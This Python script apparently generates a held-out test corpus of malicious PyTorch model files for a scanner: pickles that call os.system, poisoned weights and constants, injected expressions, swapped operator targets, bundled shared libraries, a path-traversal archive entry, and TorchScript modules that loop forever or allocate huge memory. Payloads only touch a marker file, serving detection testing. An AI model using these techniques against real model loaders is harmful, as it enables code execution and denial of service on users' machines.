"""Write the files of the second held-out set that only the real libraries can write.

    ENVIRONMENT/bin/python tests/corpora/unseen2_write.py main|torch|tf|pad|arrow13|harmless FOLDER

unseen2_write.R writes those of R. Pack them with `zip -X -9 -D -r tests/data/unseen2.zip .` in FOLDER.
"""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import io
import json
import os
import pickle
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

OUT = Path()
MARK = "/tmp/MARK"


def place(name: str) -> str:
    path = OUT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    return str(path)


class Evil:
    def __reduce__(self) -> tuple:
        return os.system, ("touch /tmp/MARK",)


EVIL = pickle.dumps(Evil())


def changed(data: bytes, edit: Callable[[str, bytes], bytes | None], more: dict[str, bytes] | None = None) -> bytes:
    """A zip archive with members edited, or left out, and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for item in old.infolist():
            body = edit(item.filename, old.read(item))
            if body is not None:
                new.writestr(zipfile.ZipInfo(item.filename), body)
        for key, body in (more or {}).items():
            new.writestr(zipfile.ZipInfo(key), body)
    return out.getvalue()


def torch_files() -> None:
    import torch

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.nn.Parameter(torch.ones(3))
            self.register_buffer("c", torch.ones(3), persistent=False)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.add(x, self.w) * self.c * x.shape[0]

    shapes = {"x": {0: torch.export.Dim("n", min=2, max=64)}}
    program = torch.export.export(Net(), (torch.ones(4, 3),), dynamic_shapes=shapes)
    out = io.BytesIO()
    torch.export.save(program, out)
    pt2 = out.getvalue()
    saved = io.BytesIO()
    torch.save(Evil(), saved)
    evil_torch = saved.getvalue()
    names = zipfile.ZipFile(io.BytesIO(pt2)).namelist()
    print(names)
    put = lambda what, data: Path(place(f"pt2/{what}/m.pt2")).write_bytes(data)
    inside = lambda end, body: changed(pt2, lambda n, d: body if n.endswith(end) else d)
    text = lambda f: changed(pt2, lambda n, d: f(d.decode()).encode() if n.endswith("models/model.json") else d)

    put("sample-inputs", inside("data/sample_inputs/model.pt", evil_torch))
    weights = lambda config, extra: changed(
        pt2, lambda n, d: config(d) if n.endswith("_weights_config.json") else d, extra
    )
    top = names[0].split("/")[0]
    put(
        "pickled-weight",
        weights(
            lambda d: (
                d.replace(b'"use_pickle": false', b'"use_pickle": true')
                .replace(b'"use_pickle":false', b'"use_pickle":true')
                .replace(b"weight_0", b"weight_9")
            ),
            {f"{top}/data/weights/weight_9": evil_torch},
        ),
    )
    constant = json.dumps(
        {"config": {"c": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    ).encode()
    put(
        "opaque-object",
        changed(
            pt2,
            lambda n, d: constant if n.endswith("constants_config.json") else d,
            {f"{top}/data/constants/opaque_obj_0": EVIL},
        ),
    )
    constant = json.dumps(
        {"config": {"c": {"path_name": "tensor_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    ).encode()
    put(
        "pickled-constant",
        changed(
            pt2,
            lambda n, d: (
                constant if n.endswith("constants_config.json") else (None if n.endswith("constants/tensor_0") else d)
            ),
            {f"{top}/data/constants/tensor_0": evil_torch},
        ),
    )
    command = "__import__('os').system('touch /tmp/MARK')"
    one = zipfile.ZipFile(io.BytesIO(pt2)).read(next(n for n in names if n.endswith("models/model.json"))).decode()
    import re

    expression = re.search(r'"expr_str": ?"([^"]+)"', one)
    print(expression, re.findall(r'"target": ?"([^"]+)"', one))
    put("expression", text(lambda t: re.sub(r'("expr_str": ?)"[^"]+"', rf'\1"{command}"', t)))
    put("expression-hidden", text(lambda t: re.sub(r'("expr_str": ?)"([^"]+)"', rf'\1"\2*(0*len([{command}])+1)"', t)))
    put("target-system", text(lambda t: t.replace("torch.ops.aten.add.Tensor", "torch.serialization.os.system")))
    put("target-load", text(lambda t: t.replace("torch.ops.aten.add.Tensor", "torch.load")))
    put("operator-call", text(lambda t: t.replace("torch.ops.aten.add.Tensor", "_operator.methodcaller")))
    library = Path(place("library/w.bin")).read_bytes()
    aoti = {
        f"{top}/data/aotinductor/model/w.so": library,
        f"{top}/data/aotinductor/model/w_metadata.json": b'{"AOTI_DEVICE_KEY": "cpu"}',
    }
    put("inductor-library", changed(pt2, lambda n, d: None if "models/" in n or "sample" in n else d, aoti))
    aoti = {
        f"{top}/data/aotinductor/model/../../../../../../../../../../tmp/MARK.so": library,
        f"{top}/data/aotinductor/model/w_metadata.json": b'{"AOTI_DEVICE_KEY": "cpu"}',
    }
    put("inductor-slip", changed(pt2, lambda n, d: None if "models/" in n or "sample" in n else d, aoti))
    put("extra-pickle", changed(pt2, lambda n, d: d, {f"{top}/extra/vocabulary.pkl": EVIL}))

    class Forever(torch.nn.Module):
        @torch.jit.export
        def __getstate__(self) -> tuple[int, bool]:
            return (1, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[int, bool]) -> None:
            self.training = state[1]
            while True:
                self.training = not self.training

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

    torch.jit.script(Forever()).save(place("torchscript2/state-loop/m.pt"))

    class Allocates(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.x = torch.zeros(1)

        @torch.jit.export
        def __getstate__(self) -> tuple[int, bool]:
            return (1, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[int, bool]) -> None:
            self.training = state[1]
            self.x = torch.zeros([1 << 36])

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

    torch.jit.script(Allocates()).save(place("torchscript2/state-allocates/m.pt"))

    class Forks(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            pile = [x]
            while True:
                pile.append(torch.cat(pile))
            return x

    torch.jit.script(Forks()).save(place("torchscript2/doubling/m.pt"))

    class Deep(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            s = "A"
            for _ in range(60):
                s = s + s
            return x + len(s)

    torch.jit.script(Deep()).save(place("torchscript2/text-doubling/m.pt"))

    class Resize(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.as_strided(x, [1 << 40], [0]).clone()

    torch.jit.script(Resize()).save(place("torchscript2/strided-clone/m.pt"))

    torch.library.define("evil::run", "(str command) -> int")
    torch.library.impl("evil::run", "CompositeExplicitAutograd")(lambda command: 0)

    class Custom(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.ops.evil.run("touch /tmp/MARK")

    torch.jit.script(Custom()).save(place("torchscript2/custom-operator/m.pt"))
    torch.library.define("image::write_file", "(str filename, Tensor data) -> ()")
    torch.library.impl("image::write_file", "CompositeExplicitAutograd")(lambda filename, data: None)

    class Image(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.ops.image.write_file("/tmp/MARK", x.to(torch.uint8))
            return x

    torch.jit.script(Image()).save(place("torchscript2/image-write/m.pt"))

    class Maps(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            y = torch.ops.aten.from_file("/tmp/outside/canary.txt", False, 16, dtype=torch.uint8)
            return x + y.sum()

    torch.jit.script(Maps()).save(place("torchscript2/reads-file/m.pt"))
    plain = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(1, 1)), plain)
    script = plain.getvalue()
    ts = lambda what, data: Path(place(f"torchscript2/{what}/m.pt")).write_bytes(data)
    ts("evil-data", changed(script, lambda n, d: EVIL if n.endswith("data.pkl") else d))
    ts("evil-constants", changed(script, lambda n, d: EVIL if n.endswith("constants.pkl") else d))
    ts("debug-pickle", changed(script, lambda n, d: EVIL if n.endswith(".debug_pkl") else d))
    ts("extra-library", changed(script, lambda n, d: d, {"m/extra/w.so": library}))
    ts("mobile-bytecode", changed(script, lambda n, d: d, {"m/bytecode.pkl": EVIL}))

    with torch.package.PackageExporter(place("package2/extern/m.pt")) as package:
        package.extern("**")
        package.save_source_string(
            "net",
            "import subprocess\nclass Model:\n    def __setstate__(self, s): subprocess.call(['touch', '/tmp/MARK'])\n",
        )
        package.save_text("model", "notes.txt", "hello")
        package.save_binary("model", "data.pkl", EVIL)
    with torch.package.PackageExporter(place("package2/source-state/m.pt")) as package:
        package.extern("**")
        package.save_source_string(
            "net",
            "import os\nclass Model:\n    def __init__(self): self.x = 1\n    def __setstate__(self, s): os.system('touch /tmp/MARK')\n",
        )
        package.save_source_string("model/__init__", "")
        package.save_binary("model", "model.pkl", b"\x80\x02cnet\nModel\n)\x81}b.")
    net = torch.nn.Sequential(torch.nn.Linear(2, 2))
    torch.save(net.state_dict(), place("torch2/base/m.pt"))
    base = Path(place("torch2/base/m.pt")).read_bytes()
    Path(place("torch2/data-in-storage/m.pt")).write_bytes(
        changed(base, lambda n, d: evil_torch if n.endswith("data/0") else d)
    )
    Path(place("torch2/serialization-id/m.pt")).write_bytes(
        changed(base, lambda n, d: EVIL if n.endswith("serialization_id") else d)
    )
    optimizer = torch.optim.SGD(net.parameters(), 0.1)
    torch.save({"optimizer": optimizer.state_dict(), "callback": Evil()}, place("torch2/checkpoint-callback/m.ckpt"))
    os.remove(place("torch2/base/m.pt"))


if __name__ == "__main__":
    OUT = Path(sys.argv[2]).resolve()
    if sys.argv[1] == "torch":
        torch_files()
    elif sys.argv[1] == "harmless":
        import unseen2_write_harmless

        unseen2_write_harmless.write(OUT)
    else:
        import unseen2_write_others

        unseen2_write_others.write(sys.argv[1], place)
